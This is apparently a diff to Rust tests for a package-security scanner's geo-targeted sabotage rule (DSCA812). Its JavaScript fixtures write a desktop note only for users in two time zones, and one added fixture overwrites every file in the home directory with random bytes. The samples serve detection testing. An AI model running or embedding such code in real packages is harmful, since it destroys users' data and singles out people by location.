@@ -786,19 +786,16 @@ module.exports = (dir) => fs.writeFileSync(dir + '/app.service', body);
 
 // Geo-targeted sabotage (DSCA812): a side effect kept for one country's users.
 
+/// Writes a note on the desktop of users in two time zones only.
+const NOTE_FOR_ONE_TIME_ZONE: &str = "const fs = require('fs'), os = require('os'), path = require('path');\n\
+     const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n\
+     if (['Europe/Minsk', 'Asia/Omsk'].includes(tz)) {\n\
+       fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'NOTE.txt'), 'message');\n\
+     }\n";
+
 #[test]
 fn dsca812_files_written_for_one_time_zone_at_install_are_high() {
-    let fixture = hooked(
-        "node banner.js",
-        &[(
-            "banner.js",
-            "const fs = require('fs'), os = require('os'), path = require('path');\n\
-             const tz = Intl.DateTimeFormat().resolvedOptions().timeZone;\n\
-             if (['Europe/Minsk', 'Asia/Omsk'].includes(tz)) {\n\
-               fs.writeFileSync(path.join(os.homedir(), 'Desktop', 'NOTE.txt'), 'message');\n\
-             }\n",
-        )],
-    );
+    let fixture = hooked("node banner.js", &[("banner.js", NOTE_FOR_ONE_TIME_ZONE)]);
     assert_eq!(
         severity_of(&fixture.code_findings("DSCA812")),
         Some(Severity::High)
@@ -823,6 +820,26 @@ fn dsca812_files_overwritten_after_a_hidden_geo_lookup_from_main_are_critical() 
     assert_eq!(
         severity_of(&fixture.code_findings("DSCA812")),
         Some(Severity::Critical)
+    );
+}
+
+#[test]
+fn dsca812_the_same_shapes_in_a_file_nothing_runs_are_medium() {
+    // Nothing visibly runs lib/util.js: the shape is there, the trigger is not.
+    let geo = library(NOTE_FOR_ONE_TIME_ZONE);
+    assert_eq!(
+        severity_of(&geo.code_findings("DSCA812")),
+        Some(Severity::Medium)
+    );
+    let walk = library(
+        "const fs = require('fs'), os = require('os'), path = require('path'), crypto = require('crypto');\n\
+         const home = os.homedir();\n\
+         for (const name of fs.readdirSync(home)) {\n\
+           fs.writeFileSync(path.join(home, name), crypto.randomBytes(4096));\n}\n",
+    );
+    assert_eq!(
+        severity_of(&walk.code_findings("DSCA812")),
+        Some(Severity::Medium)
     );
 }
 
